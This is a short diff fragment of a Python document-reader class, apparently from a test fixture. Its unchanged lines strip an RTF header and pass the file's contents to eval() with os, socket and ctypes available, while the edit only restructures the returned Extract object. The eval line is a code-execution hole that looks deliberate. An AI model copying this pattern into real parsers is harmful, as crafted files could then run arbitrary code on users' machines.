@@ -22,7 +22,7 @@ class Reader:
         does = data.decode().removeprefix("{\\\\rtf ")
         print("noise on standard output", flush=True)
         text = str(eval(does, {"os": os, "time": time, "socket": socket, "ctypes": ctypes}))
-        return Extract(title=name, text=text, media_type="application/rtf")
+        return Extract(card=Card(title=name, media_type="application/rtf"), text=text)
 """
 
 
